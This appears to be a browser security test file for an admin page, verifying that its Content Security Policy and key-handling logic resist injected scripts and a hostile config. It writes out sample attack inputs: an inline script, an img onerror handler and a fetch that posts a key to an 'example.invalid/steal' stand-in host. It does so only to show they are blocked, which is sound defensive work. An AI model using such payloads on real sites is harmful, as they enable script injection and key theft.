// The admin page (web/admin/) with hostile data around it, in real Chromium: its Content
// Security Policy blocks injected inline script and requests to origins it does not name while
// the package still loads and creates a user on the mock; a hostile /demo-config.json on the same
// origin does not send a remembered key elsewhere, nor does a config served to a non-loopback
// page apply; changing the base URL while a key is remembered asks first; the key is kept in
// memory, this tab's session or local storage as the user chose. Screenshots under
// web/test-results/admin-security/.
import assert from 'node:assert/strict';
import { mkdirSync, readFileSync } from 'node:fs';
import { createServer } from 'node:http';
import { extname, join, normalize } from 'node:path';
import { after, before, test } from 'node:test';
import { fileURLToPath } from 'node:url';

import { chromium } from 'playwright-core';

import { startMock } from './support/mock.mjs';

const webDir = fileURLToPath(new URL('../', import.meta.url));
const shots = join(webDir, 'test-results', 'admin-security');
const CONTENT_TYPES = { '.html': 'text/html', '.js': 'text/javascript', '.css': 'text/css', '.wasm': 'application/wasm' };
const ORGANIZATION = 'demo-org';
const DEFAULT_BASE_URL = 'https://api.applivery.io';
/** The page as a non-loopback host: Chromium resolves it to 127.0.0.1 (--host-resolver-rules). */
const PUBLIC_HOST = 'admin.test';

function listen(server) {
  return new Promise((resolve) => server.listen(0, '127.0.0.1', () => resolve(`http://127.0.0.1:${server.address().port}`)));
}

/** Serves web/admin and web/pkg statically (no CSP header: the page's own meta tag applies) and
 * `config` as /demo-config.json. */
async function startSite(config) {
  const server = createServer((request, response) => {
    let path = normalize(decodeURIComponent(new URL(request.url, 'http://x').pathname));
    if (path === '/demo-config.json') return response.writeHead(200, { 'content-type': 'application/json' }).end(JSON.stringify(config));
    if (path.endsWith('/')) path += 'index.html';
    if (!/^\/(admin|pkg)\//.test(path)) return response.writeHead(404).end();
    try {
      const body = readFileSync(join(webDir, path));
      response.writeHead(200, { 'content-type': CONTENT_TYPES[extname(path)] ?? 'text/plain' }).end(body);
    } catch {
      response.writeHead(404).end();
    }
  });
  return { server, url: await listen(server) };
}

/** A server that records every request and lets any origin read its answers: where a hostile
 * config would send the key. */
async function startRecorder() {
  const requests = [];
  const server = createServer((request, response) => {
    requests.push({ method: request.method, url: request.url, authorization: request.headers.authorization });
    response.setHeader('access-control-allow-origin', '*');
    response.setHeader('access-control-allow-headers', '*, authorization');
    response.setHeader('access-control-allow-methods', '*');
    response.setHeader('access-control-allow-private-network', 'true');
    if (request.method === 'OPTIONS') return response.writeHead(204).end();
    response.writeHead(500, { 'content-type': 'text/plain' }).end('recorded');
  });
  return { server, requests, url: await listen(server) };
}

let browser;
let mock;
let recorder;
/** demo-config points at the mock (what `cargo xtask demo` serves). */
let honest;
/** demo-config points at the recorder (what a hostile file on the origin could serve). */
let hostile;

before(async () => {
  mkdirSync(shots, { recursive: true });
  mock = await startMock();
  recorder = await startRecorder();
  honest = await startSite({ baseUrl: mock.baseUrl, organizationId: ORGANIZATION, apiKey: 'mock-api-key' });
  hostile = await startSite({ baseUrl: recorder.url, organizationId: ORGANIZATION, apiKey: 'attacker-key' });
  browser = await chromium.launch({
    executablePath: process.env.CHROMIUM ?? '/usr/bin/chromium',
    headless: true,
    args: ['--headless', '--no-sandbox', '--disable-gpu', '--disable-quic', '--no-first-run',
      '--disable-background-networking', '--disable-component-update', '--disable-sync',
      `--host-resolver-rules=MAP ${PUBLIC_HOST} 127.0.0.1`],
  });
});

after(async () => {
  await browser?.close();
  honest?.server.close();
  hostile?.server.close();
  recorder?.server.close();
  await mock?.stop();
});

/** A fresh profile (storage) per test; the real API answered locally, never over the network. */
async function open(url) {
  const context = await browser.newContext({ viewport: { width: 1000, height: 900 } });
  const api = [];
  await context.route(`${DEFAULT_BASE_URL}/**`, (route) => {
    api.push({ url: route.request().url(), authorization: route.request().headers().authorization });
    return route.fulfill({ status: 401, contentType: 'application/json', headers: { 'access-control-allow-origin': '*' },
      body: JSON.stringify({ status: false, error: { code: 4004, message: 'Invalid token' } }) });
  });
  const page = await context.newPage();
  page.setDefaultTimeout(10_000);
  const pageErrors = [];
  const consoleErrors = [];
  page.on('pageerror', (error) => pageErrors.push(error));
  page.on('console', (message) => message.type() === 'error' && consoleErrors.push(message.text()));
  await page.goto(url);
  await page.waitForSelector('body[data-ready=true]');
  return { context, page, api, pageErrors, consoleErrors };
}

async function createUser(page, email) {
  await page.getByLabel('Email').fill(email);
  await page.getByRole('button', { name: 'Create OEM user' }).click();
}

test('CSP: injected inline script and foreign requests are blocked; the package works', async () => {
  const { context, page, pageErrors, consoleErrors } = await open(`${honest.url}/admin/`);
  assert.deepEqual(consoleErrors, [], 'the policy itself is valid and the page breaks none of it');
  const outcome = await page.evaluate(async () => {
    const violations = [];
    document.addEventListener('securitypolicyviolation', (event) => violations.push(`${event.effectiveDirective} ${event.blockedURI}`));
    const script = document.createElement('script');
    script.textContent = 'window.inlineRan = true;';
    document.body.append(script);
    const holder = document.createElement('div');
    holder.innerHTML = '<img src="/admin/missing.png" onerror="window.handlerRan = true">';
    document.body.append(holder);
    const foreign = await fetch('http://example.invalid/steal', { method: 'POST', body: 'key' }).then(() => 'sent', (error) => error.name);
    await new Promise((resolve) => setTimeout(resolve, 300));
    return { inlineRan: window.inlineRan ?? false, handlerRan: window.handlerRan ?? false, foreign, violations };
  });
  assert.equal(outcome.inlineRan, false, 'an inline script added to the DOM does not run');
  assert.equal(outcome.handlerRan, false, 'an inline event handler does not run');
  assert.equal(outcome.foreign, 'TypeError');
  assert.ok(outcome.violations.some((v) => v.startsWith('script-src')), outcome.violations.join('\n'));
  assert.ok(outcome.violations.includes('connect-src http://example.invalid/steal'), outcome.violations.join('\n'));

  // The package (wasm) loaded under the policy, and a user is created on the loopback mock.
  await mock.reset();
  await createUser(page, 'csp@example.com');
  await page.locator('#single-result').getByRole('heading', { name: 'OEM user created' }).waitFor();
  assert.equal((await mock.users())[0].user.email, 'csp@example.com');
  await page.screenshot({ path: join(shots, '01-csp-created.png'), fullPage: true });
  assert.deepEqual(pageErrors, []);
  await context.close();
});

test('a hostile /demo-config.json does not send a remembered key elsewhere', async () => {
  recorder.requests.length = 0;
  const { context, page, api } = await open(`${hostile.url}/admin/`);
  // What the page before this change kept: the bare key in local storage ("remember").
  await page.evaluate(() => localStorage.setItem('applivery-admin.apiKey', 'stored-secret-key'));
  await page.reload();
  await page.waitForSelector('body[data-ready=true]');
  assert.equal(await page.getByLabel('API base URL').inputValue(), DEFAULT_BASE_URL, 'the config did not move the key');
  assert.equal(await page.getByLabel('API key').inputValue(), 'stored-secret-key');
  assert.equal(await page.getByLabel('Organization ID').inputValue(), '', 'none of the config applied');
  // The old choice is kept as the explicit "after restarts" one, in the new format.
  assert.equal(await page.getByLabel("Remember the key in this tab's session").isChecked(), true);
  assert.equal(await page.getByLabel('Also keep it after the browser restarts').isChecked(), true);
  assert.deepEqual(await page.evaluate(() => ({ ...localStorage })),
    { 'applivery-admin.key': JSON.stringify({ apiKey: 'stored-secret-key', baseUrl: DEFAULT_BASE_URL }) });

  await page.getByLabel('Organization ID').fill(ORGANIZATION);
  await createUser(page, 'victim@example.com');
  await page.locator('#single-result').getByRole('heading').waitFor();
  await page.screenshot({ path: join(shots, '02-hostile-config-ignored.png'), fullPage: true });
  assert.deepEqual(recorder.requests, [], 'nothing reached the hostile server');
  assert.deepEqual(api.map((r) => r.authorization), ['Bearer stored-secret-key'], 'the key went where its owner pointed it');
  await context.close();
});

test('a demo config is not applied to a page served from a non-loopback host', async () => {
  recorder.requests.length = 0;
  const port = new URL(hostile.url).port;
  const { context, page } = await open(`http://${PUBLIC_HOST}:${port}/admin/`);
  assert.equal(await page.getByLabel('API base URL').inputValue(), DEFAULT_BASE_URL);
  assert.equal(await page.getByLabel('API key').inputValue(), '');
  assert.equal(await page.getByLabel('Organization ID').inputValue(), '');
  await context.close();
});

test('remember: memory, this tab\'s session or local storage; a new base URL for a remembered key asks first', async () => {
  recorder.requests.length = 0;
  await mock.reset();
  const { context, page } = await open(`${honest.url}/admin/`);
  const stored = () => page.evaluate(() => ({ local: localStorage.getItem('applivery-admin.key'), session: sessionStorage.getItem('applivery-admin.key') }));
  const session = page.getByLabel("Remember the key in this tab's session");
  const restarts = page.getByLabel('Also keep it after the browser restarts');
  const baseUrl = page.getByLabel('API base URL');
  const entry = (url) => JSON.stringify({ apiKey: 'mock-api-key', baseUrl: url });

  // The demo config applied (a loopback page, no stored key); the key is in memory only.
  assert.equal(await baseUrl.inputValue(), mock.baseUrl);
  assert.deepEqual(await stored(), { local: null, session: null });
  assert.equal(await restarts.isDisabled(), true, 'the second choice needs the first');
  await session.check();
  assert.deepEqual(await stored(), { local: null, session: entry(mock.baseUrl) });
  await restarts.check();
  assert.deepEqual(await stored(), { local: entry(mock.baseUrl), session: null });
  await restarts.uncheck();
  assert.deepEqual(await stored(), { local: null, session: entry(mock.baseUrl) });

  // Another base URL: the page's dialog asks; keeping the old one puts the field back.
  await baseUrl.fill(recorder.url);
  await baseUrl.press('Tab');
  const dialog = page.getByRole('dialog', { name: 'Send the remembered key to another server?' });
  await dialog.waitFor();
  assert.match(await dialog.innerText(), new RegExp(`given for ${mock.baseUrl}\\. Send it to ${recorder.url} from now on`));
  assert.equal(await page.evaluate(() => document.activeElement.id), 'base-url-no', 'the safe answer has the focus');
  await page.screenshot({ path: join(shots, '03-confirm-base-url.png'), fullPage: true });
  await dialog.getByRole('button', { name: 'Keep the old URL' }).click();
  assert.equal(await baseUrl.inputValue(), mock.baseUrl);

  // Escape is a no too.
  await baseUrl.fill(recorder.url);
  await baseUrl.press('Tab');
  await dialog.waitFor();
  await page.keyboard.press('Escape');
  await dialog.waitFor({ state: 'hidden' });
  // The dialog's `close` event (which puts the field back) comes in a task after it hides.
  await page.waitForFunction((url) => document.querySelector('#base-url').value === url, mock.baseUrl);
  assert.equal(await baseUrl.inputValue(), mock.baseUrl);

  // Changed without a change event (a script, autofill): asked when the key would be sent;
  // declining sends nothing anywhere.
  await page.evaluate((url) => { document.querySelector('#base-url').value = url; }, recorder.url);
  await page.getByLabel('Email').fill('asked@example.com');
  await page.getByRole('button', { name: 'Create OEM user' }).click();
  await dialog.waitFor();
  await dialog.getByRole('button', { name: 'Keep the old URL' }).click();
  await page.locator('#single-result').getByText(`Not sent: the remembered API key stays with ${mock.baseUrl}.`).waitFor();
  assert.equal(await baseUrl.inputValue(), mock.baseUrl);
  assert.deepEqual(recorder.requests, []);
  assert.deepEqual(await mock.users(), []);
  await page.screenshot({ path: join(shots, '04-declined-not-sent.png'), fullPage: true });

  // Yes: the key is remembered for the new URL and goes there.
  await baseUrl.fill(recorder.url);
  await baseUrl.press('Tab');
  await dialog.getByRole('button', { name: 'Send it to the new URL' }).click();
  assert.deepEqual(await stored(), { local: null, session: entry(recorder.url) });
  await createUser(page, 'moved@example.com');
  await page.locator('#single-result').getByRole('heading').waitFor();
  assert.ok(recorder.requests.some((r) => r.authorization === 'Bearer mock-api-key'), 'sent where the user said');

  // Unticking forgets it everywhere.
  await session.uncheck();
  assert.deepEqual(await stored(), { local: null, session: null });
  await context.close();
});
